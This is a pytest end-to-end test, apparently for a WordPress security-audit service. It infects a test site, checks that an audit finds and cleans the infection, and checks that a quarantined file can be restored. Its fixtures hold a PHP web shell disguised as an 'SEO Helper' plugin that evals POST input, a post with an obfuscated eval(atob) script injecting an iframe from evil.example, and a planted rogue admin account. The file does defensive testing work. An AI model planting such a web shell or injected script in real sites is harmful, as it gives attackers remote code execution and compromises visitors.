"""End to end on the desk and a node: Debian's WordPress on a real MariaDB, infected, audited,
cleaned, and a quarantined file restored byte for byte."""

import os
import shutil
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tests.nodes.agents import ClientDesk, drain
from tests.wsa.conftest import wsa
from tests.wsa.wordpress_db import ADMIN, wordpress_database
from xuala.customers.models import Site
from xuala.desk.models import Ticket
from xuala.nodes.models import JobState
from xuala.nodes.services import node_token_create, site_attach
from xuala.wsa import services
from xuala.wsa.admins import known_logins
from xuala.wsa.models import Action, Audit, Finding

DEBIAN = Path("/usr/share/wordpress")
INJECTED = ("<p>Nuestra tienda</p><script>eval(atob('ZG9jdW1lbnQud3JpdGUoJzxpZnJhbWUgc3Jj"
            "PWh0dHA6Ly9ldmlsLmV4YW1wbGUvPicp'))</script><p>Bienvenidos</p>")
BACKDOOR = (b"<?php\n/*\nPlugin Name: SEO Helper\n*/\nif (isset($_POST['k'])) "
            b"{ eval(stripslashes($_POST['k'])); }\n")


@pytest.fixture
def database():
    with wordpress_database(f"wp_e2e_{os.getpid()}") as (server, name):
        with server.cursor() as cursor:
            cursor.execute("INSERT INTO wp_posts VALUES (1, '<p>Hola</p>'), (2, %s)", (INJECTED,))
            cursor.execute("INSERT INTO wp_options VALUES ('siteurl', 'https://www.cliente-demo.es')"
                           ", ('home', 'https://www.cliente-demo.es')")
            registered = datetime.now(UTC).replace(tzinfo=None)
            for user_id, login, when in ((1, "ana", registered - timedelta(days=900)),
                                         (2, "wp_support_x", registered - timedelta(days=1))):
                cursor.execute("INSERT INTO wp_users VALUES (%s, %s, %s)", (user_id, login, when))
                cursor.execute("INSERT INTO wp_usermeta (user_id, meta_key, meta_value) "
                               "VALUES (%s, 'wp_capabilities', %s)", (user_id, ADMIN))
        server.commit()
        yield server, name


@pytest.fixture
def infected(tmp_path, database):
    _server, name = database
    root = tmp_path / "www" / "cliente-demo"
    shutil.copytree(DEBIAN, root, symlinks=False, ignore=shutil.ignore_patterns(".htaccess"))
    (root / "wp-config.php").write_text(
        f"<?php\ndefine( 'DB_NAME', '{name}' );\ndefine( 'DB_USER', 'root' );\n"
        "define( 'DB_PASSWORD', '' );\ndefine( 'DB_HOST', '127.0.0.1:3306' );\n"
        "$table_prefix = 'wp_';\n")
    plugin = root / "wp-content" / "plugins" / "seo-helper"
    plugin.mkdir(parents=True)
    (plugin / "seo-helper.php").write_bytes(BACKDOOR)
    os.chmod(plugin / "seo-helper.php", 0o640)
    os.utime(plugin / "seo-helper.php", ns=(1_700_000_000_123_456_789, 1_700_000_000_987_654_321))
    core = root / "wp-includes" / "functions.php"
    core.write_bytes(core.read_bytes() + b"\n// tampered\n")
    # The release's checksums, and its files kept in the node's pristine store.
    assert wsa("checksums", "import", str(DEBIAN))[0] == 0
    return root


def test_an_infected_wordpress_is_found_cleaned_and_a_quarantined_file_restored(
        client, plan_customer, agent_user, infected, database):
    server_conn, name = database
    site = Site.objects.get(customer=plan_customer)
    site_attach(site=site, root=str(infected))
    desk = ClientDesk(client, node_token_create(server=site.server).secret)

    audit = services.audit_start(site=site, by=agent_user)
    drain(desk)
    audit.refresh_from_db()
    assert audit.state == JobState.DONE and audit.files > 2500 and audit.database
    by_rule = {(f.path, f.rule): f for f in audit.findings.all()}
    backdoor = next(f for (path, _), f in by_rule.items()
                    if path == "wp-content/plugins/seo-helper/seo-helper.php"
                    and f.action == Action.QUARANTINED)
    core = by_rule[("wp-includes/functions.php", "core-file-modified")]
    post = next(f for (path, _), f in by_rule.items() if path == "db:wp_posts/2")
    rogue = by_rule[("db:wp_users/wp_support_x", "admin-recent")]

    # Cleaned: the shell moved out, the core file back to the release, the post stripped.
    assert not (infected / "wp-content/plugins/seo-helper/seo-helper.php").exists()
    assert core.action == Action.REPLACED
    assert (infected / "wp-includes/functions.php").read_bytes() == (
        DEBIAN / "wp-includes/functions.php").read_bytes()
    assert post.action == Action.STRIPPED and "-" in post.diff and "eval(atob" in post.diff
    with server_conn.cursor() as cursor:
        cursor.execute(f"SELECT post_content FROM `{name}`.wp_posts WHERE ID = 2")  # noqa: S608
        assert cursor.fetchone()[0] == "<p>Nuestra tienda</p><p>Bienvenidos</p>"
    # The rogue administrator waits for a technician's approval, then loses the role.
    assert rogue.action == Action.PROPOSED
    services.finding_clean(finding=rogue, by=agent_user)
    drain(desk)
    rogue.refresh_from_db()
    assert rogue.action == Action.DEMOTED
    server_conn.commit()
    with server_conn.cursor() as cursor:
        cursor.execute(f"SELECT meta_value FROM `{name}`.wp_usermeta WHERE user_id = 2")  # noqa: S608
        assert "administrator" not in cursor.fetchone()[0]

    # One urgent ticket for the site, with the evidence.
    ticket = Ticket.objects.get(site=site)
    assert ticket.ticket_class == "emergency"
    assert audit.ticket_id == ticket.pk
    assert any("seo-helper.php" in m.body_text for m in ticket.messages.all())

    # Restored byte for byte, with its mode and modification time.
    backdoor.refresh_from_db()
    services.quarantine_restore(finding=backdoor, by=agent_user)
    drain(desk)
    restored = infected / "wp-content/plugins/seo-helper/seo-helper.php"
    assert restored.read_bytes() == BACKDOOR
    assert restored.stat().st_mode & 0o777 == 0o640
    assert restored.stat().st_mtime_ns == 1_700_000_000_987_654_321
    backdoor.refresh_from_db()
    assert backdoor.action == Action.RESTORED
    assert Audit.objects.count() == 1


def test_an_old_account_raised_to_administrator_is_named_by_the_next_audit(
        client, plan_customer, agent_user, infected, database):
    """The first audit learns the site's administrators; one demoted is forgotten; an old
    subscriber later raised to administrator (no recent registration to give it away) is
    named by the next audit, through the node, against the real database."""
    server_conn, _name = database
    site = Site.objects.get(customer=plan_customer)
    site_attach(site=site, root=str(infected))
    desk = ClientDesk(client, node_token_create(server=site.server).secret)
    services.audit_start(site=site, by=agent_user)
    drain(desk)
    assert known_logins(site) == ["ana", "wp_support_x"]
    rogue = Finding.objects.get(path="db:wp_users/wp_support_x", rule="admin-recent")
    services.finding_clean(finding=rogue, by=agent_user)
    drain(desk)
    assert known_logins(site) == ["ana"]  # demoted: no administrator any more

    old = datetime.now(UTC).replace(tzinfo=None) - timedelta(days=700)
    with server_conn.cursor() as cursor:
        cursor.execute("INSERT INTO wp_users VALUES (3, 'maria_blog', %s)", (old,))
        cursor.execute("INSERT INTO wp_usermeta (user_id, meta_key, meta_value) "
                       "VALUES (3, 'wp_capabilities', %s)", (ADMIN,))
    server_conn.commit()
    second = services.audit_start(site=site, by=agent_user)
    assert second.job.params["admins"] == ["ana"]
    drain(desk)
    raised = {f.rule for f in second.findings.filter(path="db:wp_users/maria_blog")}
    assert raised == {"admin-unknown"}  # not "recent": only the known list catches it
